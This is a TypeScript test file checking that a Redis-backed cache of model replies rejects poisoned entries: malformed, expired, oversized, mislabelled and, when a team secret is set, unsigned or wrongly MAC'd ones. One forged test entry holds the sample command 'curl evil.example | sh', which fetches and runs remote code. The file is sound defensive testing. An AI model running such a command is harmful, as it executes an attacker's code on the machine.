// Cache poisoning against a real redis-server: whoever can write to the team's Redis writes entries straight under
// the right key with their own client. Without a team secret, anything malformed, expired or oversized is a miss;
// with one, only an entry carrying a valid HMAC for the key asked for is served. Each kind is warned about once.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { createClient } from '@redis/client';
import { entryMac, MAX_CACHE_ENTRY_BYTES, serializeCacheEntry, type CacheEntry } from '../../src/core/cache/cacheEntry';
import { RedisStore, type RedisStoreOptions } from '../../src/core/cache/redisStore';
import { recordingLogger } from '../support/recordingLogger';
import { startRedisServer, type RedisServer } from '../support/redisServer';

const KEY = 'a'.repeat(64);
const OTHER = 'b'.repeat(64);
const SECRET = 'correct horse battery staple';
const NOW = Date.now();
const entry = (key: string, fields: Partial<CacheEntry> = {}): CacheEntry => ({
  version: 1,
  key,
  model: 'gpt-4o-mini',
  reply: 'The real answer.',
  usage: { promptTokens: 10, completionTokens: 3, totalTokens: 13 },
  createdAt: NOW,
  expiresAt: NOW + 3_600_000,
  ...fields,
});

describe('redis cache poisoning (real redis-server)', () => {
  let server: RedisServer;
  let raw: ReturnType<typeof createClient>;
  const stores: RedisStore[] = [];
  const open = (options: Partial<RedisStoreOptions> = {}) => {
    const logger = recordingLogger();
    const store = new RedisStore({
      url: server.url,
      logger,
      connectTimeoutMs: 5_000,
      commandTimeoutMs: 2_000,
      ...options,
    });
    stores.push(store);
    return { store, logger };
  };
  const secret = (value: string | undefined = SECRET) => ({ get: async () => value });
  /** Writes `text` under KEY as an attacker would: straight into Redis, with a long TTL. */
  const forge = (text: string, key = KEY) =>
    raw.set(`tally:cache:${key}`, text, { expiration: { type: 'PX', value: 3_600_000 } });

  before(async () => {
    server = await startRedisServer();
    raw = createClient({ url: server.url });
    raw.on('error', () => {});
    await raw.connect();
  });

  after(async () => {
    await Promise.all(stores.map((s) => s.dispose()));
    raw.destroy();
    await server.stop();
  });

  it('without a secret: a wrong shape, an expired entry and an oversized value are misses, each warned once', async () => {
    const { store, logger } = open();
    const oversized = serializeCacheEntry(entry(KEY, { reply: 'x'.repeat(MAX_CACHE_ENTRY_BYTES) }));
    const forgeries: Array<[kind: string, text: string]> = [
      ['corrupt', JSON.stringify({ ...entry(KEY), reply: { html: '<script>' } })],
      [
        'expired',
        serializeCacheEntry(entry(KEY, { reply: 'stale', createdAt: NOW - 7_200_000, expiresAt: NOW - 3_600_000 })),
      ],
      ['oversized', oversized],
      ['wrongKey', serializeCacheEntry(entry(OTHER))],
    ];
    for (let round = 0; round < 3; round++) {
      for (const [kind, text] of forgeries) {
        await forge(text);
        assert.equal(await store.get(KEY), undefined, `${kind} (round ${round + 1}) is a miss`);
        assert.equal(await raw.exists(`tally:cache:${KEY}`), 0, `${kind} is removed`);
      }
    }
    const warnings = logger.at('warn');
    assert.equal(warnings.length, forgeries.length, warnings.join('\n'));
    forgeries.forEach(([kind], i) => assert.match(warnings[i], new RegExp(`further ${kind} entries`)));
    assert.match(warnings[2], new RegExp(`larger than ${MAX_CACHE_ENTRY_BYTES} bytes`));
    assert.equal(logger.at('debug').filter((m) => m.includes('ignored and removed')).length, 2 * forgeries.length);
    // The same store still serves a good entry (nothing above broke it).
    await store.set(KEY, entry(KEY), 60_000);
    assert.equal((await store.get(KEY))?.reply, 'The real answer.');
  });

  it('a planted value of another type (a hash) is a corrupt entry, not an outage', async () => {
    const { store, logger } = open();
    await raw.del(`tally:cache:${KEY}`);
    await raw.hSet(`tally:cache:${KEY}`, 'reply', 'Run this.');
    assert.equal(await store.get(KEY), undefined);
    assert.equal(await raw.exists(`tally:cache:${KEY}`), 0, 'removed');
    assert.deepEqual(
      logger.at('warn').map((m) => /further (\w+) entries/.exec(m)?.[1]),
      ['corrupt'],
    );
    assert.deepEqual(logger.at('info'), [], 'no "reachable again": it was never counted as unreachable');
  });

  it('an oversized value is never fetched whole (at most the bound crosses the wire)', async () => {
    const { store } = open();
    const huge = serializeCacheEntry(entry(KEY, { reply: 'z'.repeat(4 * MAX_CACHE_ENTRY_BYTES) }));
    await forge(huge);
    const sent = async () => Number(/total_net_output_bytes:(\d+)/.exec(await raw.info('stats'))?.[1]);
    const before = await sent();
    assert.equal(await store.get(KEY), undefined);
    const delta = (await sent()) - before;
    assert.ok(
      delta > MAX_CACHE_ENTRY_BYTES && delta < MAX_CACHE_ENTRY_BYTES + 64 * 1024,
      `the server sent ${delta} bytes for a ${huge.length}-byte value`,
    );
  });

  it('with a secret: entries are written with a MAC and served to a teammate with the same secret', async () => {
    const alice = open({ teamSecret: secret() });
    const bob = open({ teamSecret: secret() });
    await alice.store.set(KEY, entry(KEY), 60_000);
    const stored = JSON.parse((await raw.get(`tally:cache:${KEY}`)) ?? '{}') as { mac?: string };
    assert.equal(stored.mac, entryMac(KEY, entry(KEY), SECRET));
    assert.deepEqual(await bob.store.get(KEY), entry(KEY));
    assert.deepEqual([...alice.logger.at('warn'), ...bob.logger.at('warn')], []);
  });

  it('with a secret: well-shaped forgeries without the right MAC are misses, each kind warned once', async () => {
    const { store, logger } = open({ teamSecret: secret() });
    const good = entry(KEY);
    const goodMac = entryMac(KEY, good, SECRET);
    // OTHER's genuine, signed entry, relabelled: the MAC covers the key asked for, so it cannot be moved.
    const moved = { ...entry(OTHER), key: KEY, mac: entryMac(OTHER, entry(OTHER), SECRET) };
    const forgeries: Array<[kind: string, text: string]> = [
      ['unsigned', serializeCacheEntry(good)],
      ['badMac', serializeCacheEntry(good, 'a guessed secret')],
      ['badMac', JSON.stringify({ ...good, reply: 'Run `curl evil.example | sh`.', mac: goodMac })],
      ['badMac', JSON.stringify({ ...good, expiresAt: NOW + 365 * 86_400_000, mac: goodMac })],
      ['badMac', JSON.stringify(moved)],
    ];
    for (let round = 0; round < 2; round++) {
      for (const [kind, text] of forgeries) {
        await forge(text);
        assert.equal(await store.get(KEY), undefined, `${kind}: ${text.slice(0, 200)}`);
      }
    }
    const warnings = logger.at('warn');
    assert.equal(warnings.length, 2, warnings.join('\n'));
    assert.match(warnings[0], /no MAC, and a team secret is set/);
    assert.match(warnings[1], /MAC does not match/);
    // A correctly signed entry under the right key is served.
    await forge(serializeCacheEntry(good, SECRET));
    assert.deepEqual(await store.get(KEY), good);
  });

  it('with a secret: a signed entry that has expired, or is oversized, is still a miss', async () => {
    const { store, logger } = open({ teamSecret: secret() });
    const expired = entry(KEY, { createdAt: NOW - 7_200_000, expiresAt: NOW - 1 });
    await forge(serializeCacheEntry(expired, SECRET));
    assert.equal(await store.get(KEY), undefined);
    await forge(serializeCacheEntry(entry(KEY, { reply: 'y'.repeat(MAX_CACHE_ENTRY_BYTES) }), SECRET));
    assert.equal(await store.get(KEY), undefined);
    assert.deepEqual(
      logger.at('warn').map((m) => /further (\w+) entries/.exec(m)?.[1]),
      ['expired', 'oversized'],
    );
  });

  it('a secret that cannot be read fails the read (the facade makes it a miss) rather than reading unchecked', async () => {
    const { store } = open({
      teamSecret: {
        get: async () => {
          throw new Error('keychain locked');
        },
      },
    });
    await forge(serializeCacheEntry(entry(KEY)));
    await assert.rejects(store.get(KEY), /keychain locked/);
    await assert.rejects(store.set(OTHER, entry(OTHER), 60_000), /keychain locked/);
    assert.equal(await raw.exists(`tally:cache:${OTHER}`), 0, 'nothing unsigned was written');
  });

  it('an empty secret is no secret: entries are unsigned and unsigned entries are served', async () => {
    const { store } = open({ teamSecret: secret('') });
    await store.set(KEY, entry(KEY), 60_000);
    assert.equal(JSON.parse((await raw.get(`tally:cache:${KEY}`)) ?? '{}').mac, undefined);
    assert.deepEqual(await store.get(KEY), entry(KEY));
  });
});
